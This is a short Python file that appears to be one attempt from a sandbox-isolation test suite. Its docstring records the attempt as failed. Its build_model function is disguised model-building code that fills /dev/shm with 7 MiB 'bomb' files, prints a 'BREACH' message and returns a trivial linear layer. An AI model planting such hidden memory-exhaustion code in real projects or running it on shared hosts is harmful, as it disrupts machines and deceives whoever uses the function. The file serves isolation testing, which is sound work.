"""FAILED (memory or raised; loses 2.1, 4.1): fills /dev/shm, which is the machine's memory.
Except in ordinary user and no namespaces: POSSIBLE: it is ended, but files in /dev/shm cannot be told from the user's own.
"""

import itertools
import os

from attempts import say
from honest import *


def build_model():
    for number in itertools.count():
        os.posix_fallocate(os.open(f"/dev/shm/bomb-{number}", os.O_CREAT | os.O_RDWR), 0, 7 << 20)
        if number > 60:
            say("BREACH: 420 MiB of /dev/shm are filled")
            return nn.Linear(1, 1)
